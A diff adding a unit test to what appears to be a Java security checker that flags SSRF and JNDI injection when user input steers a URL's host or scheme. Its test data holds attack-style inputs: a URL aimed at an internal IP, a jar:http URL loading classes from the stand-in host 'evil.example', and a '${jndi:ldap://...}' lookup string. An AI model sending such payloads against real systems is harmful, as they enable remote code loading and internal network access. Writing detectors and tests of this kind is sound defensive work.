@@ -163,6 +163,16 @@ class SinkChecksTest {
   }
 
   @Test
+  void onlyOccurrencesInTheSchemeOrAuthoritySteer() {
+    // the first occurrence (the user info) chose nothing, the second is the whole host
+    assertEquals("ssrf.internal-address", url("http://10.0.0.5@10.0.0.5/", "10.0.0.5"));
+    assertNull(url("http://api.example.com/10.0.0.5", "10.0.0.5"), "found in the path only");
+    // a class loader's URL: inputs found only in its long path never steer it
+    assertNull(url("jar:nested:/srv/app.jar/!BOOT-INF/lib/api-hello.jar!/api/Hello.class", "api", "hello"));
+    assertEquals("ssrf.scheme", url("jar:http://evil.example/x.jar!/a.class", "jar:http://evil.example/x.jar"));
+  }
+
+  @Test
   void jndiAndXml() {
     assertEquals("jndi.remote-lookup",
         JndiCheck.check("ldap://evil.example/a", inputs("${jndi:ldap://evil.example/a}")).finding.reason());
